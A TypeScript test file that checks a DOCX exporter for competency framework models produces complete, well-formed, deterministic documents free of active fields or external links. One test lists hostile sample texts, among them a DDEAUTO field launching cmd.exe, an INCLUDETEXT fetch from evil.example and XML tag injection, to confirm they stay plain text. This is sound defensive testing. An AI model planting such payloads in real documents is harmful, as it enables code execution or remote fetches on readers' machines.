import { exporterOf } from '@gradus/exchange/exporters';
import type { FrameworkModel } from '@gradus/model';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { anyModel } from '../any-model.ts';
import { FRAMEWORKS, modelOf } from './frameworks.ts';
import { wellFormed } from './well-formed.ts';
import { hostile, withTexts } from './with-texts.ts';
import { zipTexts } from './zip-texts.ts';

const exporter = exporterOf('docx');

async function filesOf(model: FrameworkModel, split?: 'roles'): Promise<Uint8Array[]> {
    const exported = await exporter?.export(model, { split });
    return exported?.files.map(({ content }) => content as Uint8Array) ?? [];
}

/** The texts of all paragraphs of a document, as somebody reads them. */
function read(xml: string): string[] {
    const signs: Readonly<Record<string, string>> = { '&lt;': '<', '&gt;': '>', '&amp;': '&', '&quot;': '"' };
    return [...xml.matchAll(/<w:p>(.*?)<\/w:p>/gs)].map(([, paragraph = '']) =>
        [...paragraph.matchAll(/<w:t xml:space="preserve">(.*?)<\/w:t>|<w:(tab|br)\/>/gs)]
            .map(([, text, sign]) => (text === undefined ? (sign === 'tab' ? '\t' : '\n') : text))
            .join('')
            .replace(/&\w+;/g, reference => signs[reference] ?? reference)
    );
}

/** What a document may do, wherever it is opened: nothing that an author thought of, and nothing elsewhere. */
async function expectHarmless(bytes: Uint8Array): Promise<void> {
    for (const [name, xml] of await zipTexts(bytes)) {
        expect(wellFormed(xml), name).toBe('');
        const instructions = [...xml.matchAll(/<w:instrText[^>]*>(.*?)<\/w:instrText>| w:instr="([^"]*)"/gs)];
        for (const [, inText = '', inAttribute = ''] of instructions) {
            expect(`${inText}${inAttribute}`).toMatch(
                /^ (?:TOC \\o &quot;1-1&quot; \\h \\z \\u|PAGEREF _Toc\d{9} \\h|PAGE|NUMPAGES) $/
            );
        }
        const links = [...xml.matchAll(/<w:hyperlink ([^>]*)>/g)].map(([, attributes]) => attributes);
        for (const link of links) expect(link).toMatch(/^w:anchor="_Toc\d{9}" w:history="1"$/);
        expect(xml).not.toContain('TargetMode');
    }
}

test.each(FRAMEWORKS)('%s: every role has its pages, with all of its texts and requirements', async name => {
    const model = await modelOf(name);
    const [all = new Uint8Array()] = await filesOf(model);
    const lines = new Set(read((await zipTexts(all)).get('word/document.xml') ?? ''));
    const missing = model.roles.flatMap(role =>
        [
            role.title === role.code && role.number === undefined
                ? role.title
                : `${role.title} (${role.number ?? role.code})`,
            ...role.sections.flatMap(({ entries }) => entries),
            ...role.tasks,
            ...role.activities.map(({ title }) => title),
            ...role.requirements.map(({ competency: code }) => {
                const title = model.competencies.find(each => each.code === code)?.title ?? code;
                return title === code ? code : `${code} ${title}`;
            })
        ].filter(line => !lines.has(line.replaceAll('\u2028', '\n')))
    );
    expect(missing).toEqual([]);
    for (const file of [all, ...(await filesOf(model, 'roles'))]) await expectHarmless(file);
});

test('whatever a framework says, its documents are well-formed, the same on every run, and do nothing', async () => {
    for (const name of ['every-construct', 'eu-customs']) {
        const model = hostile(await modelOf(name));
        for (const file of [...(await filesOf(model)), ...(await filesOf(model, 'roles'))]) await expectHarmless(file);
    }
    await fc.assert(
        fc.asyncProperty(anyModel, async model => {
            const files = await filesOf(model);
            for (const file of files) await expectHarmless(file);
            expect(await filesOf(structuredClone(model))).toEqual(files);
        }),
        { numRuns: 50 }
    );
});

test.each([
    ['{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc" }'],
    [' INCLUDETEXT "http://evil.example/x.docx" '],
    ['http://evil.example/ \\\\evil.example\\share'],
    ['</w:t></w:r><w:r><w:instrText>DDEAUTO</w:instrText></w:r>'],
    ['&lt;&#0;&amp; ]]> <!-- --> <?xml?>'],
    ['_x000D_ \\* MERGEFORMAT \\o "1-9"'],
    ['two\nlines\tand a tab']
])('%s stays the text that it is', async text => {
    const model = withTexts(await modelOf('every-construct'), () => text);
    for (const file of [...(await filesOf(model)), ...(await filesOf(model, 'roles'))]) {
        await expectHarmless(file);
        expect(read((await zipTexts(file)).get('word/document.xml') ?? '')).toContain(text);
    }
});

test('a text may be as long as it likes', async () => {
    const long = 'x'.repeat(100_000);
    const model = withTexts(await modelOf('every-construct'), text => (text === 'Decides' ? long : text));
    const [file = new Uint8Array()] = await filesOf(model);
    expect(read((await zipTexts(file)).get('word/document.xml') ?? '')).toContain(long);
});

test('signs that XML cannot hold are seen to be missing, and those that turn texts round end with their text', async () => {
    const model = withTexts(await modelOf('every-construct'), () => 'a\u0000\u001b\ud800b\u202ec');
    const [file = new Uint8Array()] = await filesOf(model);
    await expectHarmless(file);
    const lines = read((await zipTexts(file)).get('word/document.xml') ?? '');
    expect(lines).toContain('a\ufffd\ufffd\ufffdb\u202ec\u202c (Head-Harbour)');
});
